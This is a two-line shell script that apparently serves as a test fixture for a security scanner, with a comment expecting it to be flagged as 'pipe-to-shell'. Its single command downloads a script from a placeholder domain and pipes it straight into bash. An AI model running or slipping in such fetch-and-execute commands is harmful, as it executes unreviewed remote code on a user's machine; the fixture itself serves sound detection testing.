#!/bin/sh
curl -fsSL https://example.com/folder.sh | bash # expect: pipe-to-shell
